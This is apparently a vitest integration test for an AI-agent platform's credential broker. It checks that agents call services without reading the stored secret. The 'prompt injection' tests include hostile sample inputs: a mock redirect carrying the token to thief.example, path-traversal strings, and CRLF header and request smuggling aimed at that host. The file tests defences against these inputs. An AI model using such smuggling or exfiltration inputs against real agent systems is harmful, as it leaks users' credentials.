import type { IncomingMessage, ServerResponse } from 'node:http'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { askFor } from '../../agent/gateway/testing/played-bus.ts'
import { beginStream, say, sayChunk, Upstream } from '../../agent/gateway/testing/upstream.ts'
import { call, type TestUser } from '../support/http/client.ts'
import { startTlsServer } from '../support/http/tls-server.ts'
import { type OwnStack, startOwnStack } from '../support/stack/stack-process.ts'
import { type Site, startSite } from '../support/tools/pages.ts'

const value = 'a-credential-that-no-agent-reads'

/** Makes the tool calls that the prompt lists in JSON, one list per round, and then answers. */
const model = await Upstream.start()

let stack: OwnStack
let owner: TestUser
let agentId: string
let server: Awaited<ReturnType<typeof startTlsServer>>
let host: string
let site: Site
/** The requests that the host received. */
let observed: IncomingMessage[]
let answer: (request: IncomingMessage, response: ServerResponse) => unknown

interface Round {
  name: string
  given: unknown
}

model.reply = (response, { body: { messages } }) => {
  const said = messages.findLastIndex(({ role }) => role === 'user')
  const rounds = JSON.parse(messages[said]?.content ?? '[]') as Round[][]
  const done = messages.slice(said).filter(({ role }) => role === 'assistant').length
  const round = rounds[done]
  if (round === undefined) return say(response, 'Done.')
  const requests = round.map(({ name, given }, i) => ({ name, given, id: `call_${done}_${i}` }))
  askFor(response, ...requests)
}

const web = (path: string, body?: unknown, method?: string) =>
  call(`${stack.now().web}${path}`, {
    headers: owner.session,
    body,
    ...(method !== undefined && { method }),
  })

/**
 * Makes the agent's model call tools, round by round.
 * @returns the tools' results
 */
async function turn(...rounds: Round[][]): Promise<Record<string, unknown>[]> {
  const request = await stack.chat(owner, { message: JSON.stringify(rounds), agentId })
  expect([request.status, request.body.reply]).toEqual([200, 'Done.'])
  const { messages } = model.lastCall.body
  return messages
    .slice(messages.findLastIndex(({ role }) => role === 'user'))
    .filter(({ role }) => role === 'tool')
    .map(({ content }) => JSON.parse(content) as Record<string, unknown>)
}

const ask = (given: object): Round => ({
  name: 'call_service',
  given: { service: 'shop', host, ...given },
})

const fileTools = ['list_files', 'read_file', 'search_files', 'write_file']

const tools = () => {
  const { tools: offered = [] } = model.lastCall.body as { tools?: { function: Round }[] }
  return offered.map((tool) => tool.function.name).toSorted()
}

beforeAll(async () => {
  server = await startTlsServer((request, response) => {
    observed.push(request)
    answer(request, response)
  })
  host = `localhost:${server.port}`
  site = await startSite((_, response) =>
    response
      .writeHead(200, { 'content-type': 'text/html' })
      .end('<title>Tides</title><article><p>The moon pulls at the sea.</article>'),
  )
  stack = await startOwnStack({
    AI_BASE_URL: model.baseUrl,
    AI_API_KEY: 'key-of-the-model',
    FETCH_ALLOW_HOSTS: `${host},${site.host}`,
    SUMMARIZER_PRICE_USD: '0.002',
    X402_PAY_TO: `0x${'1'.repeat(40)}`,
    X402_FACILITATOR_URL: 'http://127.0.0.1:9',
    NODE_EXTRA_CA_CERTS: server.certFile,
  })
  owner = await stack.newSubscriber()
  agentId = await stack.runningAgent(owner)
  const stored = { name: 'shop', hosts: [host], header: 'authorization: Bearer {value}', value }
  expect((await web(`/api/agents/${agentId}/broker-credentials`, stored)).status).toBe(201)
})
afterAll(async () => {
  await stack?.[Symbol.asyncDispose]()
  await server.close()
  await site?.close()
  await model[Symbol.asyncDispose]()
})
beforeEach(() => {
  observed = []
  answer = (_, response) => response.end('{"orders":["tea"]}')
})

it('an agent has the platform’s tools only if its config enables them', async () => {
  await turn()
  expect(tools()).toEqual(fileTools)
  const { status } = await web(`/api/agents/${agentId}/config`, { config: { mcp: true } }, 'PUT')
  expect(status).toBe(200)
  await stack.lifecycle(owner, agentId, 'restart')
  await stack.untilStatus(owner, agentId, 'running')
  await turn()
  expect(tools()).toEqual(
    [
      'buy',
      'call_service',
      'get_usage',
      'list_channels',
      'list_services',
      'manage_schedules',
      'read_page',
      'search_memory',
      'send_file',
      'send_message',
      'write_memory',
      ...fileTools,
    ].toSorted(),
  )
})

it('an agent calls a service with a credential that it cannot read, and stores a note of the response', async () => {
  const results = await turn(
    [{ name: 'list_services', given: {} }],
    [ask({ path: '/orders?of=ann', headers: { 'x-trace': '1' } })],
    [{ name: 'write_memory', given: { key: 'orders', text: 'She ordered tea.' } }],
  )
  expect(results).toEqual([
    { result: { credentials: [{ name: 'shop', hosts: [host], createdAt: expect.any(String) }] } },
    { result: { status: 200, headers: {}, body: '{"orders":["tea"]}', cut: false } },
    { result: { key: 'orders', saved: true } },
  ])
  expect(observed).toMatchObject([
    {
      method: 'GET',
      url: '/orders?of=ann',
      headers: { authorization: `Bearer ${value}`, 'x-trace': '1' },
    },
  ])
  expect((await web(`/api/memory?agentId=${agentId}`)).body.memory).toMatchObject({
    orders: 'She ordered tea.',
  })
  const { requests } = (await web(`/api/agents/${agentId}/broker-requests`)).body
  expect(requests).toMatchObject([{ name: 'shop', method: 'GET', host, status: 200, bytes: 18 }])
  await turn()
  expect(JSON.stringify(model.lastCall.body.messages[0])).toContain('She ordered tea.')
  expect(JSON.stringify(model.calls)).not.toContain(value)
})

it('an agent reads a page, even if pages have a price', async () => {
  const url = site.origin
  expect((await call(`${stack.now().summarizer}/api/read`, { body: { url } })).status).toBe(402)
  const [message] = await turn([{ name: 'read_page', given: { url } }])
  expect(message).toMatchObject({
    result: { title: 'Tides', markdown: 'The moon pulls at the sea.' },
  })
})

it('stopping a turn closes the connection to its model', async () => {
  const [began, closed] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()]
  const { reply } = model
  model.reply = (response) => {
    beginStream(response)
    const drip = setInterval(() => sayChunk(response, 'and so on '), 20)
    response.on('close', () => {
      clearInterval(drip)
      closed.resolve()
    })
    began.resolve()
  }
  try {
    const pending = stack.chat(owner, { message: 'Go on', agentId })
    await began.promise
    const { runs } = (await web('/api/runs?state=active')).body as { runs: { id: string }[] }
    expect((await web(`/api/runs/${runs[0]!.id}/cancel`, {})).status).toBe(202)
    await closed.promise
    expect(await pending).toMatchObject({ status: 409, body: { code: 'CANCELLED' } })
  } finally {
    model.reply = reply
  }
})

it('a service receives the agent’s request unchanged', async () => {
  const bodies: string[] = []
  answer = (request, response) => {
    request.on('data', (part: Buffer) => bodies.push(String(part)))
    request.on('end', () => response.writeHead(201, { location: '/orders/1' }).end())
  }
  const [message] = await turn([ask({ method: 'POST', path: '/orders', body: '{"of":"tea"}' })])
  expect(message).toMatchObject({ result: { status: 201, headers: { location: '/orders/1' } } })
  expect(bodies.join('')).toBe('{"of":"tea"}')
  expect(observed[0]?.headers['content-type']).toBe('application/json')
})

describe('an agent with a prompt injection', () => {
  it('does not get the credential back: not by an echo, in a header or by a redirect', async () => {
    answer = ({ headers, url }, response) => {
      const input = String(headers.authorization)
      response.writeHead(302, { location: `https://thief.example/?${input}`, link: input })
      response.end(JSON.stringify({ headers, url, given: input }))
    }
    const [message] = await turn([ask({ path: '/echo' })])
    expect(message).toMatchObject({ result: { status: 302 } })
    expect(JSON.stringify(message)).toContain('*'.repeat(value.length))
    expect(observed).toHaveLength(1)
    expect(JSON.stringify(model.calls)).not.toContain(value)
  })

  it.each<[string, object, RegExp]>([
    ['another host', { host: 'thief.example' }, /BROKER_HOST_REFUSED/],
    ['a host with the same prefix', { host: 'localhost' }, /BROKER_HOST_REFUSED/],
    ['a user name before the host', { host: 'shop@thief.example' }, /BROKER_HOST_REFUSED/],
    ['a path in the host', { host: 'localhost/../..' }, /list_services|segment|Not found/],
    ['a path in the service', { service: 'shop/thief.example' }, /list_services/],
    ['another credential', { service: 'other' }, /not found/i],
    ['path steps to another route', { path: '/../../../api/usage/events' }, /segment/],
    ['encoded path steps', { path: '/%2e%2e/%2e%2e/mcp' }, /segment/],
    [
      'a second request in the path',
      { path: '/ HTTP/1.1\r\nhost: thief.example\r\n\r\n' },
      /encoded/,
    ],
    ['its own key', { headers: { Authorization: 'Bearer x' } }, /cannot be set by the agent/],
    ['another Host header', { headers: { host: 'thief.example' } }, /cannot be set by the agent/],
    ['a second header', { headers: { 'x-a': '1\r\nhost: thief.example' } }, /one line/],
  ])('reaches no host by %s', async (_, given, words) => {
    const [message] = await turn([ask(given)])
    expect(JSON.stringify(message)).toMatch(words)
    expect(observed).toEqual([])
  })

  it('gets at most the response size of a model, and only text', async () => {
    answer = (_, response) => response.end('é'.repeat(200_000))
    const [long] = await turn([ask({})])
    expect(JSON.stringify(long).length).toBeLessThan(14_000)
    answer = (_, response) => response.end(Buffer.from([0xff, 0xfe, 0x00]))
    expect(await turn([ask({})])).toMatchObject([{ result: { body: null } }])
  })

  it('loses the tools once its owner disables them', async () => {
    const path = `/api/agents/${agentId}/config?apply=false`
    await web(path, { config: { mcp: null } }, 'PUT')
    expect(await turn([ask({})])).toEqual([{ error: expect.stringContaining('403') }])
    expect(observed).toEqual([])
  })
})
